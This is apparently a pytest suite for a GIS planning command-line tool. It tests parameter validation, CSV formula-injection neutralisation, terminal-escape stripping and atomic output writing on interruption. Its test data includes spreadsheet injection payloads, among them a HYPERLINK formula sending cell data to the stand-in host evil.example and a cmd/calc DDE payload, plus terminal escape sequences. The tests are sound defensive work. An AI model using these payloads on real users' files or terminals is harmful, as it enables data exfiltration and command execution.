"""The CLI faces hostile names and absurd parameters: validated numbers, no spreadsheet
formulas in CSVs, no terminal escapes on screen, and outputs written as a set even when the
process is interrupted (Ctrl-C or SIGTERM)."""

from __future__ import annotations

import hashlib
import json
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pandas as pd
import pytest

from gisplan.catalogue import default_standard
from gisplan.cli import main
from gisplan.errors import InputError
from gisplan.store import ScenarioRecord, ScenarioStore, User, engine_from_env, hash_password

# --- parameters ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "field"),
    [
        (["--speed", "1e9"], "--speed"),
        (["--speed", "inf"], "--speed"),
        (["--speed", "nan"], "--speed"),
        (["--speed", "0"], "--speed"),
        (["--threshold", "wet_market=inf"], "--threshold wet_market"),
        (["--threshold", "wet_market=-3"], "--threshold wet_market"),
        (["--threshold", "wet_market=abc"], "--threshold wet_market"),
        (["--required", ","], "--required"),
        (["--required", ""], "--required"),
        (["--max-snap", "nan"], "--max-snap"),
        (["--max-snap", "-5"], "--max-snap"),
        (["--max-snap", "1e12"], "--max-snap"),
    ],
)
def test_absurd_analysis_parameters_are_one_clear_line(tmp_path: Path, capsys, argv, field) -> None:
    out = tmp_path / "out"
    assert main(["analyze", "--out", str(out), "--quiet", *argv]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "Traceback" not in err
    assert field in err and ("from" in err or "names no category" in err or "number" in err)
    assert not out.exists()


@pytest.mark.parametrize(
    ("argv", "field"),
    [
        (["--k", "0"], "--k"),
        (["--k", "100000"], "--k"),
        (["--grid-spacing", "0"], "--grid-spacing"),
        (["--grid-spacing", "nan"], "--grid-spacing"),
        (["--grid-spacing", "-10"], "--grid-spacing"),
        (["--time-limit", "inf"], "--time-limit"),
    ],
)
def test_absurd_siting_parameters_are_one_clear_line(tmp_path: Path, capsys, argv, field) -> None:
    args = ["site", "--category", "supermarket", "--out", str(tmp_path / "o"), "--quiet"]
    if "--k" not in argv:
        args += ["--k", "2"]
    assert main([*args, *argv]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and field in err


@pytest.mark.parametrize(
    "overrides",
    [
        {"walking_speed_kmh": float("inf")},
        {"walking_speed_kmh": 1e9},
        {"walking_speed_kmh": float("nan")},
        {"thresholds": {"wet_market": float("inf")}},
        {"thresholds": {"wet_market": 0}},
        {"required": []},
        {"required": ""},
        {"max_snap_distance_m": float("nan")},
        {"max_snap_distance_m": -5},
    ],
)
def test_api_refuses_the_same_values(overrides) -> None:
    with pytest.raises(InputError):
        default_standard().with_overrides(**overrides)


def test_sensible_values_pass() -> None:
    std = default_standard().with_overrides(
        walking_speed_kmh=3.2,
        thresholds={"wet_market": 12},
        required=["wet_market"],
        max_snap_distance_m=500,
    )
    assert std.walking_speed_kmh == 3.2 and std.threshold_minutes("wet_market") == 12
    assert std.required_ids == ["wet_market"] and std.max_snap_distance_m == 500


# --- CSV formula injection -------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


def test_coverage_csv_neutralises_formulas(tmp_path: Path) -> None:
    from gisplan.analysis import demo_dataset, with_layers

    ds = demo_dataset()
    comm = ds.communities.copy()
    comm.loc[comm.index[:3], "name"] = HOSTILE
    ds = with_layers(ds, communities=comm)
    from gisplan.analysis import build_access
    from gisplan.report.outputs import write_analysis_outputs

    std = default_standard()
    result = build_access(ds, std).coverage(std)
    paths = write_analysis_outputs(result, tmp_path, dataset_name="t", synthetic=True)
    cells = pd.read_csv(paths["csv"], encoding="utf-8-sig", dtype=str, keep_default_na=False)
    for text in HOSTILE:
        assert "'" + text in set(cells["name"])
    for col in cells.columns:
        assert not cells[col].str.match(r"^[=+\-@\t\r＝＋－＠]").any(), col


def test_scenario_results_csv_neutralises_formulas(tmp_path: Path) -> None:
    from gisplan.store import export_scenario

    store = ScenarioStore(engine_from_env(f"sqlite:///{tmp_path / 'p.db'}"))
    user = User("zhang", "planner")
    results = {"categories": {h: {"covered_population_after": 5} for h in HOSTILE}}
    results["=1+2"] = 7
    store.save(user, ScenarioRecord("公式", None, {}, None, results))
    paths = export_scenario(user, store, "公式", tmp_path / "out")
    cells = pd.read_csv(
        paths["results.csv"], encoding="utf-8-sig", dtype=str, keep_default_na=False
    )
    assert "'=1+2" in set(cells["metric"])
    for col in cells.columns:
        assert not cells[col].str.match(r"^[=+\-@\t\r]").any(), col
    store.engine.dispose()


# --- terminal escapes ------------------------------------------------------------------------


@pytest.fixture
def cli_store(tmp_path: Path, monkeypatch):
    url = f"sqlite:///{tmp_path / 'plans.db'}"
    users = {"alice": {"password_hash": hash_password("pw!", rounds=4), "role": "planner"}}
    monkeypatch.setenv("GISPLAN_DB", url)
    monkeypatch.setenv("GISPLAN_USERS", json.dumps(users))
    monkeypatch.setenv("GISPLAN_PASSWORD", "pw!")
    store = ScenarioStore(engine_from_env(url))
    yield store
    store.engine.dispose()


def test_cli_prints_no_terminal_escapes(cli_store: ScenarioStore, capsys) -> None:
    evil = "\x1b]0;owned\x07\x1b[2J\x1b[31m红\x1b[0m"
    sites = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"kind": "chosen", "name": f"店{evil}"},
                "geometry": {"type": "Point", "coordinates": [121.55, 29.87]},
            }
        ],
    }
    results = {"categories": {f"cat{evil}": {"covered_population_after": 3}}}
    cli_store.save(
        User("alice", "planner"), ScenarioRecord("方案", evil, {"n": evil}, sites, results)
    )
    for argv in (["scenario", "list"], ["scenario", "show", "方案"]):
        assert main([*argv, "--user", "alice"]) == 0
        out = capsys.readouterr().out
        assert "\x1b" not in out and "\x07" not in out
        assert "红" in out


def test_cli_compare_with_awkward_names(cli_store: ScenarioStore, capsys) -> None:
    user = User("alice", "planner")
    for name, n in (("difference", 1), ("metric", 4)):
        cli_store.save(user, ScenarioRecord(name, None, {}, None, {"complete_circles_after": n}))
    assert main(["scenario", "compare", "difference", "metric", "--user", "alice"]) == 0
    lines = capsys.readouterr().out.splitlines()
    header = lines[0].split()
    assert header[-3:] == ["difference", "metric", "difference"]
    row = next(line for line in lines if "complete_circles_after" in line).split()
    assert row[-3:] == ["1.0", "4.0", "3.0"]


# --- analyze writes its three files as a set -------------------------------------------------

_PAUSED_ANALYZE = textwrap.dedent(
    """
    import sys, time
    import geopandas as gpd
    from gisplan.cli import main

    marker = sys.argv[1]
    real_to_file = gpd.GeoDataFrame.to_file

    def to_file_then_pause(self, *args, **kwargs):
        # Fault injection: the CSV and summary are written (to temporary names), the
        # GeoPackage is being written when the signal comes.
        real_to_file(self, *args, **kwargs)
        open(marker, "w").close()
        time.sleep(600)

    gpd.GeoDataFrame.to_file = to_file_then_pause
    sys.exit(main(sys.argv[2:]))
    """
)


def _digests(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir())}


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "SIGINT"])
def test_interrupted_analyze_keeps_the_old_set(tmp_path: Path, sig) -> None:
    out = tmp_path / "out"
    assert main(["analyze", "--out", str(out), "--quiet", "--speed", "4.5"]) == 0
    old = _digests(out)
    assert set(old) == {"coverage.csv", "summary.json", "coverage.gpkg"}
    marker = tmp_path / "writing"
    proc = subprocess.Popen(
        [
            sys.executable,
            "-c",
            _PAUSED_ANALYZE,
            str(marker),
            "analyze",
            "--out",
            str(out),
            "--quiet",
        ],
        env=dict(os.environ, PYTHONPATH=os.pathsep.join(sys.path)),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 300
    while not marker.exists():
        assert proc.poll() is None, proc.communicate()
        assert time.monotonic() < deadline, "analyze never reached the writing step"
        time.sleep(0.05)
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 128 + int(sig), err
    assert "Traceback" not in err and "interrupted" in err
    assert _digests(out) == old  # the old set, untouched, and no temporary files beside it
